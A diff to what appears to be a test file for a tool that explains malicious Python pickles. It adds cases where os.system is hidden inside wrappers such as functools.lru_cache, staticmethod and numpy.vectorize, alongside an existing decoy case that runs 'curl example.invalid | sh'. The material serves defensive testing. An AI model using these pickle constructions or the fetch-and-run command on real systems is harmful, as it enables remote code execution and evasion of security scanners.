@@ -4,7 +4,8 @@ Each case is a real pickle written by Python's pickler (a __reduce__ naming the 
 callable is never called) that earlier versions explained wrongly: a connection called
 "starts a process", an overwrite called "loads another payload", keystroke injection called
 "opens the file", a harmless call headlined while the dangerous one hid in "+N", a key= function
-called "not called on load" (sorted(items, key=os.system) calls it on every item), and a decoy
+called "not called on load" (sorted(items, key=os.system) calls it on every item), a wrapper
+called on load (functools.lru_cache(os.system)('id'), numpy.vectorize) said "not called", a decoy
 first item of map(os.system, items) hiding the commands after it. The one line a reviewer reads
 first must name the right action and argument, and every command must be in the findings."""
 
@@ -60,6 +61,19 @@ CASES = {
         "runs a shell command `id` on load", ["not called"]),
     "groupby-key-after-items": (
         [Call(list, Call(itertools.groupby, ["id"], real("os.system")))],
+        "runs a shell command `id` on load", ["not called"]),
+    # Wrappers that call their function with the caller's arguments, called on load.
+    "lru-cache-wrapper-called": (
+        [Call(Call(functools.lru_cache, real("os.system")), "id")],
+        "runs a shell command `id` on load", ["not called"]),
+    "staticmethod-called": (
+        [Call(Call(staticmethod, real("os.system")), "id")],
+        "runs a shell command `id` on load", ["not called"]),
+    "update-wrapper-returns-wrapper": (
+        [Call(Call(functools.update_wrapper, real("os.system"), print), "id")],
+        "runs a shell command `id` on load", ["not called"]),
+    "numpy-vectorize-each-element": (
+        [Call(Call(real("numpy.vectorize"), real("os.system")), ["id"])],
         "runs a shell command `id` on load", ["not called"]),
     "map-decoy-first-item": (
         [Call(list, Call(map, real("os.system"), ["true", "curl example.invalid | sh"]))],
